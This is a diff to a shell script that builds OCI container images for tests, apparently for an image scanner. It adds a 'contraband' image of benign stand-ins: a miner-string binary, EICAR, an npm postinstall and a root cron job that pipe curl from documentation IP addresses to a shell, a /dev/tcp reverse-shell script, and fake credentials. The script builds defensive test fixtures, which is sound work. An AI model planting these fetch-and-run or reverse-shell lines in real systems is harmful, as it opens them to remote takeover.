@@ -74,6 +74,31 @@
 #                                       example.com/greet v0.1.0 => ./greet.
 #   lang-debs/                       cache: the .deb files of layer 2.
 #   lang.docker-archive.tar          skopeo copy of oci-lang:lang, named lang:lang.
+#   oci-contraband/                  OCI layout, tag `contraband`, four gzip layers
+#                                    of benign stand-ins for contraband:
+#                                    1. the oci-debian layer;
+#                                    2. Debian's nmap with its dependencies
+#                                       (dpkg --root; .debs cached in
+#                                       contraband-debs/);
+#                                    3. a stripped program carrying XMRig's
+#                                       strings, an XMRig-style config with a
+#                                       pool and a Monero-shaped wallet, EICAR,
+#                                       two crafted PE files (plain; UPX names +
+#                                       random bytes), event-stream 3.3.6 and
+#                                       flatmap-stream 0.1.1 package.json files,
+#                                       an npm postinstall that pipes curl to sh,
+#                                       a fetch-and-run cron job, a reverse-shell
+#                                       script, etc/ld.so.preload, a shipped
+#                                       authorized_keys, a setuid copy of true,
+#                                       usr/bin/nmap copied to opt/tools/scanner,
+#                                       an ed25519 private key, AWS credentials
+#                                       of the right shape, an unlocked root hash
+#                                       in etc/shadow, opt/secret/.env with a
+#                                       GitHub token;
+#                                    4. deletes opt/secret (whiteout).
+#                                    Config: entrypoint the miner stand-in with
+#                                    a stratum URL, an AWS secret in Env, port
+#                                    22/tcp exposed, no user (root).
 #
 # Facts a test may rely on: the debian layer holds the root directory as a tar
 # member named "/" (umoci insert at / writes it so); the debian layer's diff_id
@@ -93,7 +118,7 @@ die() {
 [ $# -eq 1 ] || die "usage: build_images.sh OUTDIR"
 [ "$EUID" -eq 0 ] || die "must run as root (debootstrap and layer ownership need it)"
 
-for tool in debootstrap umoci skopeo tar zstd python3 apt-get dpkg sha256sum; do
+for tool in debootstrap umoci skopeo tar zstd python3 apt-get dpkg sha256sum gcc openssl; do
   command -v "$tool" >/dev/null 2>&1 ||
     die "missing tool '$tool'; run scripts/install-deps.sh (Debian packages debootstrap umoci skopeo zstd python3)"
 done
@@ -274,6 +299,37 @@ copy_image multilayer.docker-archive.tar "oci:$out/oci-multilayer:multi" \
 copy_image multilayer.oci-archive.tar "oci:$out/oci-multilayer:multi" \
   oci-archive "$out/multilayer.oci-archive.tar" ":multi"
 
+# Downloads PACKAGES and the dependencies ROOTFS lacks (resolved by this
+# machine's apt against the rootfs's own dpkg status) into DEBS, once, then
+# installs them into ROOTFS with dpkg --root; dpkg's output goes to LOG.
+install_debs() { # DEBS ROOTFS LOG PACKAGE...
+  local debs="$1" r="$2" log="$3"
+  shift 3
+  if [ ! -d "$debs" ]; then
+    rm -rf "$debs.tmp"
+    mkdir -p "$debs.tmp/partial"
+    apt_dl() {
+      apt-get -qq -o Dir::State::Status="$r/var/lib/dpkg/status" \
+        -o Dir::Cache::archives="$debs.tmp" -o Debug::NoLocking=1 \
+        --download-only --no-install-recommends -y install "$@"
+    }
+    apt_dl "$@" >/dev/null 2>&1 || { apt-get update -qq && apt_dl "$@" >/dev/null; } ||
+      die "downloading $* failed"
+    rm -rf "$debs.tmp/partial" "$debs.tmp/lock"
+    mv "$debs.tmp" "$debs"
+  fi
+  # Maintainer scripts run chrooted and want /dev/null. Pre-Depends make dpkg
+  # refuse some packages on the first pass; later passes install them.
+  mknod -m 666 "$r/dev/null" c 1 3
+  for pass in 1 2 3; do
+    dpkg --root="$r" -i "$debs"/*.deb >"$log" 2>&1 && break
+  done
+  dpkg --root="$r" --configure -a >>"$log" 2>&1
+  [ -z "$(dpkg --root="$r" --audit)" ] || die "dpkg left packages unconfigured, see $log"
+  rm -f "$r/dev/null" "$r"/var/lib/dpkg/*-old "$r/var/log/dpkg.log" "$r/var/log/alternatives.log"
+  rm -rf "$r"/var/cache/debconf/*-old
+}
+
 # --------------------------------------------------------------------- oci-lang
 if [ -d "$out/oci-lang" ]; then
   skip oci-lang
@@ -289,33 +345,9 @@ else
   umoci unpack --image "$lang:lang" "$bundle" >/dev/null
   r="$bundle/rootfs"
 
-  # Layer 2: the packages and the dependencies the rootfs lacks, resolved by
-  # this machine's apt against the rootfs's own dpkg status.
-  debs="$out/lang-debs"
-  if [ ! -d "$debs" ]; then
-    rm -rf "$debs.tmp"
-    mkdir -p "$debs.tmp/partial"
-    apt_dl() {
-      apt-get -qq -o Dir::State::Status="$r/var/lib/dpkg/status" \
-        -o Dir::Cache::archives="$debs.tmp" -o Debug::NoLocking=1 \
-        --download-only --no-install-recommends -y install \
-        python3-requests python3-yaml libcommons-lang3-java libjackson2-databind-java fzf
-    }
-    apt_dl >/dev/null 2>&1 || { apt-get update -qq && apt_dl >/dev/null; } ||
-      die "downloading the oci-lang packages failed"
-    rm -rf "$debs.tmp/partial" "$debs.tmp/lock"
-    mv "$debs.tmp" "$debs"
-  fi
-  # Maintainer scripts run chrooted and want /dev/null. Pre-Depends make dpkg
-  # refuse some packages on the first pass; later passes install them.
-  mknod -m 666 "$r/dev/null" c 1 3
-  for pass in 1 2 3; do
-    dpkg --root="$r" -i "$debs"/*.deb >"$out/lang-dpkg.log" 2>&1 && break
-  done
-  dpkg --root="$r" --configure -a >>"$out/lang-dpkg.log" 2>&1
-  [ -z "$(dpkg --root="$r" --audit)" ] || die "dpkg left packages unconfigured, see $out/lang-dpkg.log"
-  rm -f "$r/dev/null" "$r"/var/lib/dpkg/*-old "$r/var/log/dpkg.log" "$r/var/log/alternatives.log"
-  rm -rf "$r"/var/cache/debconf/*-old
+  # Layer 2: the packages and the dependencies the rootfs lacks.
+  install_debs "$out/lang-debs" "$r" "$out/lang-dpkg.log" \
+    python3-requests python3-yaml libcommons-lang3-java libjackson2-databind-java fzf
   umoci repack --refresh-bundle --image "$lang:lang" \
     --history.created_by "dpkg -i python3-requests python3-yaml libcommons-lang3-java libjackson2-databind-java fzf (+deps)" "$bundle"
 
@@ -386,6 +418,139 @@ fi
 copy_image lang.docker-archive.tar "oci:$out/oci-lang:lang" \
   docker-archive "$out/lang.docker-archive.tar" ":lang:lang"
 
+# ---------------------------------------------------------------- oci-contraband
+# Benign stand-ins for contraband, made here (never real malware).
+if [ -d "$out/oci-contraband" ]; then
+  skip oci-contraband
+else
+  begin "oci-contraband (nmap package, stand-ins, a deleted secret)"
+  cb="$out/oci-contraband.tmp"
+  bundle="$out/contraband-bundle.tmp"
+  rm -rf "$cb" "$bundle"
+  skopeo copy -q "oci:$out/oci-debian:base" "oci:$cb:contraband"
+  umoci unpack --image "$cb:contraband" "$bundle" >/dev/null
+  r="$bundle/rootfs"
+
+  # Layer 2: Debian's nmap package with its dependencies (a dual-use tool
+  # the distro installed: info, naming the package).
+  install_debs "$out/contraband-debs" "$r" "$out/contraband-dpkg.log" nmap
+  umoci repack --refresh-bundle --image "$cb:contraband" \
+    --history.created_by "dpkg -i nmap (+deps)" "$bundle"
+
+  # Layer 3: the stand-ins.
+  src="$out/contraband-src.tmp"
+  rm -rf "$src"
+  mkdir -p "$src" "$r/opt/miner" "$r/opt/win" "$r/opt/tools" "$r/opt/scripts" "$r/opt/secret" \
+    "$r/root/.ssh" "$r/root/.aws" "$r/srv/app/node_modules/event-stream" \
+    "$r/srv/app/node_modules/flatmap-stream" "$r/srv/app/node_modules/helper-utils"
+  # A program that carries an XMRig-style miner's strings and does nothing.
+  cat >"$src/minerd.c" <<'EOC'
+#include <stdio.h>
+static const char *kStrings[] = {
+    "XMRig 6.21.0", "donate.v2.xmrig.com", "donate.ssl.xmrig.com", "--donate-level",
+    "stratum+tcp://", "stratum+ssl://", "rx/0", "cn/r", "cryptonight", "randomx",
+    "\"donate-level\": 1,", "mining.subscribe", "--cpu-max-threads-hint",
+};
+int main(int argc, char **argv) {
+  (void)argv;
+  if (argc > 99)  /* never: the strings only have to be in the binary */
+    for (unsigned i = 0; i < sizeof kStrings / sizeof kStrings[0]; ++i) puts(kStrings[i]);
+  return 0;
+}
+EOC
+  gcc -O1 -s -o "$r/opt/miner/minerd" "$src/minerd.c" || die "gcc of the miner stand-in failed"
+  # An XMRig-style config: a pool and a wallet of Monero's shape (random).
+  wallet="4$(python3 -c 'import random; a="123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"; r=random.Random(7); print("A"+"".join(r.choice(a) for _ in range(93)))')"
+  cat >"$r/opt/miner/config.json" <<EOJ
+{
+    "autosave": true,
+    "donate-level": 1,
+    "cpu": {"enabled": true, "huge-pages": true},
+    "randomx": {"1gb-pages": false},
+    "pools": [
+        {
+            "algo": "rx/0",
+            "url": "stratum+tcp://pool.supportxmr.com:3333",
+            "user": "$wallet",
+            "pass": "x",
+            "keepalive": true,
+            "tls": false
+        }
+    ]
+}
+EOJ
+  # The EICAR test file, assembled from two halves so this script is not one.
+  eicar_a='X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR'
+  eicar_b='-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
+  printf '%s%s' "$eicar_a" "$eicar_b" >"$r/opt/eicar.com"
+  # Windows executables: a plain PE (info) and one with UPX section names
+  # and random bytes (packed: suspicious). Headers only, nothing runs.
+  python3 - "$r/opt/win" <<'EOP'
+import os, random, struct, sys
+def pe(sections, body):
+    mz = bytearray(b"MZ" + b"\0" * 58 + struct.pack("<I", 0x80)) + bytearray(0x80 - 64)
+    coff = struct.pack("<HHIIIHH", 0x14C, len(sections), 0, 0, 0, 0xE0, 0x0102)
+    opt = bytearray(0xE0)
+    opt[0:2] = struct.pack("<H", 0x10B)
+    table = b"".join(name.ljust(8, b"\0") + bytes(32) for name in sections)
+    return bytes(mz) + b"PE\0\0" + coff + bytes(opt) + table + body
+rnd = random.Random(5)
+with open(os.path.join(sys.argv[1], "plain.dll"), "wb") as f:
+    f.write(pe([b".text", b".data"], b"This program cannot be run in DOS mode.\r\n" + bytes(4096)))
+with open(os.path.join(sys.argv[1], "setup.exe"), "wb") as f:
+    f.write(pe([b"UPX0", b"UPX1", b".rsrc"], b"UPX!" + bytes(rnd.getrandbits(8) for _ in range(200000))))
+EOP
+  # npm: the known-bad event-stream/flatmap-stream pair and a package whose
+  # postinstall downloads and runs a script.
+  printf '{"name": "event-stream", "version": "3.3.6", "dependencies": {"flatmap-stream": "^0.1.0"}}\n' \
+    >"$r/srv/app/node_modules/event-stream/package.json"
+  printf '{"name": "flatmap-stream", "version": "0.1.1"}\n' \
+    >"$r/srv/app/node_modules/flatmap-stream/package.json"
+  printf '{"name": "helper-utils", "version": "1.0.0", "scripts": {"postinstall": "curl -s http://203.0.113.7/i.sh | sh"}}\n' \
+    >"$r/srv/app/node_modules/helper-utils/package.json"
+  # Backdoors: a cron job that fetches and runs, a reverse shell, a preload
+  # hook, a shipped authorized key, a setuid copy of a program.
+  printf '* * * * * root curl -fsSL http://203.0.113.9/logo.jpg | bash\n' >"$r/etc/cron.d/sync"
+  printf '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.10/4444 0>&1\n' >"$r/opt/scripts/rev.sh"
+  chmod 755 "$r/opt/scripts/rev.sh"
+  printf '/usr/local/lib/libprocesshider.so\n' >"$r/etc/ld.so.preload"
+  openssl genpkey -algorithm ed25519 -out "$r/root/.ssh/id_ed25519" 2>/dev/null ||
+    die "openssl genpkey failed"
+  python3 -c 'import base64,os,struct
+blob = b"".join(struct.pack(">I", len(x)) + x for x in (b"ssh-ed25519", os.urandom(32)))
+print("ssh-ed25519", base64.b64encode(blob).decode(), "attacker@203.0.113.11")' >"$r/root/.ssh/authorized_keys"
+  cp "$r/usr/bin/true" "$r/usr/local/bin/rootsh"
+  chmod 4755 "$r/usr/local/bin/rootsh"
+  # The same nmap binary dropped outside any package: suspicious.
+  cp "$r/usr/bin/nmap" "$r/opt/tools/scanner"
+  # Secrets: cloud credentials of the right shape (random) and an unlocked
+  # root password hash.
+  key_id="AKIA$(python3 -c 'import random; r=random.Random(3); print("".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16)))')"
+  secret="$(python3 -c 'import random; r=random.Random(4); print("".join(r.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/") for _ in range(40)))')"
+  printf '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n' "$key_id" "$secret" \
+    >"$r/root/.aws/credentials"
+  hash="$(openssl passwd -6 -salt customssalt not-a-real-password)"
+  sed -i "s|^root:[^:]*:|root:$hash:|" "$r/etc/shadow"
+  gh="ghp_$(python3 -c 'import random; r=random.Random(6); print("".join(r.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(36)))')"
+  printf 'DB_HOST=db\nGITHUB_TOKEN=%s\n' "$gh" >"$r/opt/secret/.env"
+  rm -rf "$src"
+  umoci repack --refresh-bundle --image "$cb:contraband" \
+    --history.created_by "COPY stand-ins /" "$bundle"
+
+  # Layer 4: deletes the .env file: its bytes stay in layer 3.
+  rm -rf "$r/opt/secret"
+  umoci repack --refresh-bundle --image "$cb:contraband" \
+    --history.created_by "RUN rm -rf /opt/secret" "$bundle"
+  umoci config --image "$cb:contraband" \
+    --config.entrypoint /opt/miner/minerd --config.cmd --donate-level=1 \
+    --config.cmd -o --config.cmd stratum+tcp://pool.supportxmr.com:3333 \
+    --config.env "AWS_SECRET_ACCESS_KEY=$secret" --config.exposedports 22/tcp
+  umoci gc --layout "$cb"
+  rm -rf "$bundle"
+  mv "$cb" "$out/oci-contraband"
+  done_step oci-contraband
+fi
+
 # ----------------------------------------------------------------------- alpine
 alpine_dir="$shared/images/alpine-minirootfs"
 amd64_tgz="$alpine_dir/alpine-minirootfs-3.20.3-x86_64.tar.gz"
@@ -452,7 +617,7 @@ echo
 echo "Sizes:"
 for f in rootfs/debian oci-debian debian.docker-archive.tar debian.oci-archive.tar \
   oci-debian-zstd oci-multilayer multilayer.docker-archive.tar multilayer.oci-archive.tar \
-  oci-lang lang.docker-archive.tar oci-alpine alpine.docker-archive.tar oci-multiarch "$(basename "$tarball")"; do
+  oci-lang lang.docker-archive.tar oci-contraband oci-alpine alpine.docker-archive.tar oci-multiarch "$(basename "$tarball")"; do
   if [ -e "$out/$f" ]; then
     printf '  %-34s %s\n' "$f" "$(du -sh --apparent-size "$out/$f" | cut -f1)"
   fi
